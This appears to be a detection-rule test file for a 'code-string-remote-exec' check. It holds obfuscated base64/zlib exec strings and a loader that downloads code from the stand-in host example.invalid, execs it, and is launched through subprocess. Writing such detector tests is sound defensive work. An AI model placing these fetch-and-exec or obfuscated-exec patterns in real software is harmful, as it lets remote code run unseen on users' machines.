import subprocess
import sys

# ruleid: code-string-remote-exec
STAGE = "import base64;exec(base64.b64decode('cHJpbnQoJ2ZpeHR1cmUnKQ=='))"

# ruleid: code-string-remote-exec
LOADER = """import requests
code = requests.get("https://example.invalid/stage2.py").text
exec(code)
"""


def launch():
    subprocess.Popen([sys.executable, "-c", LOADER])


def nested_stage():
    # ruleid: code-string-remote-exec
    return "exec(__import__('zlib').decompress(__import__('base64').b64decode(b'eJwrKMrMK9FQT8usKCktSlXXBAA0VQXU')))"
